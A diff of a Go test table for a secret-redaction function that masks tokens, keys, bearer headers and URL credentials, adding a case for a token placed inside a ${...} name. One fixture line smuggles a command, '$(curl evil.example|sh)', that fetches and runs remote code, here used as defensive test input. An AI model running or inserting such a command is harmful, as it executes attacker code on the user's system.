@@ -27,6 +27,7 @@ func TestLiterals(t *testing.T) {
 		{"x|--token|Endpoint=sb://x.example.com/;SharedAccessKey=1L0=", "x|--token|***"},
 		{"x|--token|$(curl evil.example|sh)", ""},
 		{"x|ghp_abcdefghijklmnop0123456789", "x|***"},
+		{"x|${ghp_abcdefghijklmnop0123456789}", "x|${***}"}, // a secret in the place of a name
 		{"x|550e8400-e29b-41d4-a716-446655440000", "x|***"},
 		{"x|-H|Authorization: Bearer abc", "x|-H|Authorization: Bearer ***"},
 		{"x|https://u:p@h/p?k=v", "x|https://***@h/p?k=***"},
